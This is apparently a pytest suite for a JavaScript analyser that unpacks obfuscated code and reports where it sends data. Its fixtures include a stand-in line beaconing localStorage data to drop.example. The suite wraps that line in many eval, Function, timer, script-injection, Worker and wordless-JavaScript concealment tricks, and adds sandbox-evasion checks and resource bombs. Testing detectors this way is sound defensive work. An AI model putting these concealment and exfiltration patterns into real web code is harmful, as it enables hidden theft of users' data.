from __future__ import annotations

import base64
import time

import pytest

from undertow.analysis import read_script
from undertow.model import ScriptFacts

SEND = "navigator.sendBeacon('https://drop.example/x', localStorage.getItem('id'))"
ADDRESS = "https://drop.example/x"


def packed(text: str = SEND) -> str:
    """An expression for a text that does not show it."""
    return f'atob("{base64.b64encode(text.encode()).decode()}")'


def read(code: str) -> ScriptFacts:
    return read_script(code.encode())


def urls(facts: ScriptFacts) -> set[str]:
    return {endpoint.url for endpoint in facts.endpoints}


def kinds(facts: ScriptFacts) -> set[str]:
    return {gap.kind for gap in facts.gaps}


CODES = ",".join(str(ord(letter)) for letter in SEND)

WAYS = [
    ("eval", f"eval({packed()})"),
    ("eval", f"(0, eval)({packed()})"),
    ("eval", f"var e = eval, d = atob; e(d({packed().removeprefix('atob(')})"),
    ("eval", f'window["ev" + "al"]({packed()})'),
    ("eval", f"globalThis.eval(...[{packed()}])"),
    ("eval", f"eval(String.fromCharCode.apply(null, [{CODES}]))"),
    ("eval", f"eval(new TextDecoder().decode(new Uint8Array([{CODES}])))"),
    ("eval", f"document.addEventListener('click', function () {{ eval({packed()}) }})"),
    ("eval", f"Promise.resolve(1).then(() => {{ eval({packed()}) }})"),
    ("eval", f"acme.config({{a: 1}}); eval({packed()})"),
    ("eval", f"import a from 'x'; export default 1; eval({packed()})"),
    ("function", f"new Function({packed()})()"),
    ("function", f"Function('a', {packed()})(1)"),
    ("function", f"(function () {{}}).constructor({packed()})()"),
    ("function", f"[]['filter']['constructor']({packed()})()"),
    ("function", f"(async () => {{}}).constructor({packed()})()"),
    ("timer", f"setTimeout({packed()}, 10)"),
    ("timer", f"setInterval({SEND!r}, 10)"),
    ("document-write", f"document.write({packed('<script>' + SEND + '</script>')})"),
    ("script-element", f"var s = document.createElement('script'); s.text = {packed()}; document.body.appendChild(s)"),
    (
        "script-element",
        f"var s = document.createElement('script'); s.textContent = 'x'; s.textContent = {packed()};"
        "document.head.insertBefore(s, null)",
    ),
    ("worker", f"new Worker(URL.createObjectURL(new Blob([{packed()}], {{type: 'text/javascript'}})))"),
    ("data-url", f"import('data:text/javascript;base64,{base64.b64encode(SEND.encode()).decode()}')"),
    ("javascript-url", f"location = 'javascript:' + {packed()}"),
    ("javascript-url", f'location.href = "javascript:{SEND}"'),
]


@pytest.mark.parametrize(("how", "code"), WAYS, ids=[code[:50] for _, code in WAYS])
def test_code_that_is_handed_over_is_read(how: str, code: str) -> None:
    facts = read(code)
    assert [layer.how for layer in facts.layers] == [how]
    assert urls(facts) == {ADDRESS}
    assert not kinds(facts)


def test_what_a_layer_says_stands_where_it_is_unpacked() -> None:
    code = f"/* padding */ eval({packed()});"
    facts = read(code)
    (layer,) = facts.layers
    assert code[slice(*layer.span)] == f"eval({packed()})"
    assert (layer.depth, layer.size, layer.start) == (1, len(SEND), SEND)
    (endpoint,) = facts.endpoints
    assert endpoint.decoded
    assert endpoint.span == endpoint.excerpt.span == layer.span
    assert endpoint.excerpt.original.startswith("eval(atob(")
    assert "sendBeacon" in endpoint.excerpt.decoded
    (flow,) = facts.flows
    assert flow.host == "drop.example"
    assert flow.path[0].what == "code unpacked by eval"


def test_places_are_right_after_lines_and_letters_of_several_bytes() -> None:
    code = f"// zwölf\nvar ü = 'ß'; eval({packed()})"
    (layer,) = read(code).layers
    assert code.encode()[slice(*layer.span)].decode() == f"eval({packed()})"


def test_code_in_code_in_code_is_read() -> None:
    code = SEND
    for _ in range(4):
        code = f"eval({packed(code)})"
    facts = read(code)
    assert [layer.depth for layer in facts.layers] == [1, 2, 3, 4]
    assert {layer.span for layer in facts.layers} == {(0, len(code))}
    assert urls(facts) == {ADDRESS}


def test_the_same_code_is_one_layer() -> None:
    assert len(read(f"eval({packed()}); new Function({packed()})(); setTimeout({packed()})").layers) == 1


@pytest.mark.parametrize(
    "code",
    [
        "console.log('never call eval(x)'); var s = 'eval';",
        "if (a instanceof Function) b(); var f = Function.prototype.bind;",
        "var global = Function('return this')()",
        "setTimeout(tick, 10); setTimeout(function () { x() }, 5)",
        "this.constructor(1); new x.constructor(2)",
        "document.write('<p>hello</p>')",
        "link.href = 'javascript:void(0)'",
        "eval('1')",
        "typeof eval === 'function'",
        "function run(eval) { return eval('a(' + b + ')') }",
    ],
)
def test_what_hands_over_no_code_has_neither_layers_nor_gaps(code: str) -> None:
    facts = read(code)
    assert not facts.layers
    assert not kinds(facts)


@pytest.mark.parametrize(
    "code",
    [
        "window.run = function (text) { return eval(text) }",
        "window.make = function (text) { return new Function('return ' + text) }",
        "eval('navigator.sendBeacon(\"https://drop.example/' + navigator.userAgent + '\")')",
        "eval('navigator.sendBeacon(\"https://drop.example/' + Math.random() + '\")')",
        "eval('send(\"//drop.example/' + Date.now() + '\")')",
    ],
)
def test_code_that_depends_on_the_outside_is_a_gap(code: str) -> None:
    facts = read(code)
    assert not facts.layers
    assert kinds(facts) == {"dynamic-code"}
    assert "byte" in facts.gaps[0].why


def test_a_comment_in_code_that_stands_in_a_string_is_no_destination() -> None:
    facts = read("eval(\"// see https://manual.example/page\\nfetch('https://drop.example/x')\")")
    assert urls(facts) == {ADDRESS}


def test_text_that_is_not_code_is_no_layer() -> None:
    assert not read(f"eval({packed('Lorem ipsum dolor sit amet, consectetur adipiscing.')})").layers


@pytest.mark.parametrize(
    "hinder",
    [
        "if (navigator.webdriver) throw 1;",
        "if (typeof window.callPhantom !== 'undefined') throw 1;",
        "if (eval.toString().indexOf('[native code]') < 0) throw 1;",
        "if (!(function () {} instanceof Function)) throw 1;",
        "if (window.top !== window.self) throw 1;",
        "Array.prototype.push = Map.prototype.get = JSON.stringify = RegExp.prototype.exec = () => { throw 1 };",
        "Object.defineProperty(Object.prototype, 'how', {get() { return 9 }, set() { throw 2 }});",
        "debugger; var t = Date.now(); while (Date.now() - t < 3000);",
    ],
)
def test_code_that_looks_for_a_sandbox_is_read_all_the_same(hinder: str) -> None:
    facts = read(f"{hinder} eval({packed()})")
    assert urls(facts) == {ADDRESS}
    assert len(facts.layers) == 1


@pytest.mark.parametrize(
    "bomb",
    [
        "eval('x' + Math.PI); for (;;);",
        "setTimeout(function () { eval('x' + Math.PI); for (;;); })",
        "var n = 0; (function g() { eval('n' + n++ + '=fetch()'); g(); g() })()",
        "var n = 0; function g() { eval('g(' + n++ + ');g(' + n++ + ')') } g()",
        "var a = []; eval('a' + Math.PI); for (;;) a.push(new Array(1e6).fill(7))",
        "var s = 'x'.repeat(1e6); for (var i = 0; i < 1e4; i++) eval('/*' + s + i + '*/')",
        "eval('/*' + Math.PI + '*//(a+)+$/.test(\"' + 'a'.repeat(60) + 'b\")')",
    ],
)
def test_a_bomb_ends_and_is_said(bomb: str) -> None:
    before = time.process_time()
    facts = read(bomb)
    assert "unpack-stopped" in kinds(facts)
    assert len(facts.layers) <= 40
    assert time.process_time() - before < 10
    assert urls(read(f"eval({packed()})")) == {ADDRESS}, "the sandbox is as good as new"


def test_code_before_an_endless_loop_is_read() -> None:
    facts = read(f"eval('/*' + Math.PI + '*/' + {packed()}); for (;;);")
    assert urls(facts) == {ADDRESS}
    assert kinds(facts) == {"unpack-stopped"}


@pytest.mark.parametrize("code", ["function q() { eval('(' + q + ')()') } q()", "var s = 'eval(s+1);f()//'; eval(s)"])
def test_code_that_makes_itself_again_ends(code: str) -> None:
    assert 1 <= len(read(code).layers) <= 40


def test_a_script_without_words_is_run() -> None:
    f, n, t = "(![]+[])", "([][[]]+[])", "(!![]+[])"  # "false", "undefined", "true"
    flat = f"{f}[+[]]+{f}[!+[]+!+[]]+{f}[+!+[]]+{t}[+[]]"
    of = f"([][{flat}]+[])"  # "function flat() { [native code] }"
    o = f"{of}[!+[]+!+[]+!+[]+!+[]+!+[]+!+[]]"
    c = f"{of}[!+[]+!+[]+!+[]]"
    word = "+".join([c, o, f"{n}[+!+[]]", f"{f}[!+[]+!+[]+!+[]]", f"{t}[+[]]", f"{t}[+!+[]]", f"{n}[+[]]", c,
                     f"{t}[+[]]", o, f"{t}[+!+[]]"])  # fmt: skip
    facts = read(f"[][{flat}][{word}]('fetch(\"{ADDRESS}\")')()")
    assert [layer.how for layer in facts.layers] == ["function"]
    assert urls(facts) == {ADDRESS}
